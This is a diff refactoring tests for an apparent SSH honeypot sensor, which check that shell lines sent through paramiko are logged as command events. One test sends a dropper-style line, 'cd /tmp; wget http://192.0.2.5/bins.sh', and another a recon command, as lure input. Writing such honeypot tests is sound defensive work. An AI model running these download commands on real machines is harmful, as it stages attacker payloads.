@@ -319,21 +319,27 @@ def test_openssh_compression(sensor):
     sensor.wait_event("command", lure__command="cat /proc/cpuinfo; uname -a")
 
 
-def test_paramiko_compression_shell(sensor):
-    """paramiko compresses with Z_FULL_FLUSH (OpenSSH: Z_PARTIAL_FLUSH): a
-    shell session of several lines, each one event."""
+def pty_shell(sensor, term="vt100", **kw):
+    """paramiko logged in with RIGHT, a shell with a pty: (client, channel,
+    what came before the first prompt)."""
     c = paramiko.SSHClient()
     c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
               password=RIGHT[1], look_for_keys=False, allow_agent=False,
-              timeout=10, compress=True)
-    t = c.get_transport()
-    assert t.remote_compression == "zlib@openssh.com"
-    ch = c.invoke_shell()
+              timeout=10, **kw)
+    ch = c.invoke_shell(term=term)
     ch.settimeout(5)
     buf = b""
     while not buf.endswith(b"# "):
         buf += ch.recv(1024)
+    return c, ch, buf
+
+
+def test_paramiko_compression_shell(sensor):
+    """paramiko compresses with Z_FULL_FLUSH (OpenSSH: Z_PARTIAL_FLUSH): a
+    shell session of several lines, each one event."""
+    c, ch, _ = pty_shell(sensor, compress=True)
+    assert c.get_transport().remote_compression == "zlib@openssh.com"
     for i in range(3):
         ch.sendall(f"echo zlib-{i}-{'x' * 300}\r".encode())
         sensor.wait_event("command", lure__command=f"echo zlib-{i}-{'x' * 300}")
@@ -368,16 +374,7 @@ def test_a_session_while_the_last_one_closes(sensor):
 
 def test_term_is_the_ptys(sensor):
     """$TERM in a session with a pty is what the pty request named."""
-    c = paramiko.SSHClient()
-    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
-    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
-              password=RIGHT[1], look_for_keys=False, allow_agent=False,
-              timeout=10)
-    ch = c.invoke_shell(term="xterm-256color")
-    ch.settimeout(5)
-    buf = b""
-    while not buf.endswith(b"# "):
-        buf += ch.recv(1024)
+    c, ch, buf = pty_shell(sensor, term="xterm-256color")
     ch.sendall(b"echo T=$TERM.\r")
     while b"T=xterm-256color.\r\n" not in buf:
         buf += ch.recv(1024)
@@ -389,16 +386,7 @@ def test_last_login_names_the_previous_login(sensor):
     user's previous such login, time (UTC) and address; none before the
     first since the sensor started, and exec requests show none."""
     def login():
-        c = paramiko.SSHClient()
-        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
-        c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
-                  password=RIGHT[1], look_for_keys=False, allow_agent=False,
-                  timeout=10)
-        ch = c.invoke_shell()
-        ch.settimeout(5)
-        buf = b""
-        while not buf.endswith(b"# "):
-            buf += ch.recv(1024)
+        c, _, buf = pty_shell(sensor)
         c.close()
         return buf
     assert b"Last login" not in login()
@@ -562,16 +550,7 @@ def test_user_change_refused_like_sshd(sshd, sensor):
 
 
 def test_shell_lines_are_commands(sensor):
-    c = paramiko.SSHClient()
-    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
-    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
-              password=RIGHT[1], look_for_keys=False, allow_agent=False,
-              timeout=10)
-    ch = c.invoke_shell()
-    ch.settimeout(5)
-    buf = b""
-    while not buf.endswith(b"# "):
-        buf += ch.recv(1024)
+    c, ch, _ = pty_shell(sensor)
     ch.sendall(b"cd /tmp; wget http://192.0.2.5/bins.sh\r")
     sensor.wait_event("command",
                       lure__command="cd /tmp; wget http://192.0.2.5/bins.sh")
